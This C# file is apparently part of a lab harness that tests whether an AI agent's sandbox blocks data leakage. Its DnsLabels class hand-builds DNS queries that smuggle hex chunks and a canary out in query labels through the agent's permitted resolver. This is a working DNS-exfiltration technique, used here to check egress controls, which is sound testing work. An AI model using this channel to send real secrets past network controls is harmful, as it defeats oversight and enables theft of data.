using System.Net.Sockets;
using System.Security.Cryptography;
using System.Text;

namespace Exeat.Lab.Attacks;

/// <summary>Carries a secret out in the labels of questions, through the resolver that the agent is allowed to use.</summary>
internal static class DnsLabels
{
    private const int Questions = 4;
    private const int NameErrorStatus = 3;

    public static async Task<bool> RunAsync(AttackTarget target)
    {
        bool answered = false;
        for (int i = 0; i < Questions; i++)
        {
            string chunk = Convert.ToHexStringLower(RandomNumberGenerator.GetBytes(24));
            answered |= await AskAsync(target, $"{i}.{chunk}.{target.Canary}.{target.Name}");
        }
        return answered;
    }

    private static async Task<bool> AskAsync(AttackTarget target, string name)
    {
        using var socket = new Socket(target.Family, SocketType.Dgram, ProtocolType.Udp);
        await socket.ConnectAsync(target.EndPoint);
        await socket.SendAsync(Question(name));
        using var limit = new CancellationTokenSource(AttackTarget.Patience, TimeProvider.System);
        byte[] answer = new byte[1500];
        int length = await socket.ReceiveAsync(answer, limit.Token);
        return length > 4 && (answer[3] & 15) != NameErrorStatus;
    }

    /// <summary>A question for the addresses of a name.</summary>
    public static byte[] Question(string name) =>
    [
        .. RandomNumberGenerator.GetBytes(2), 1, 0, 0, 1, 0, 0, 0, 0, 0, 0,
        .. name.Split('.').SelectMany(label => (byte[])[(byte)label.Length, .. Encoding.ASCII.GetBytes(label)]),
        0, 0, 1, 0, 1,
    ];
}
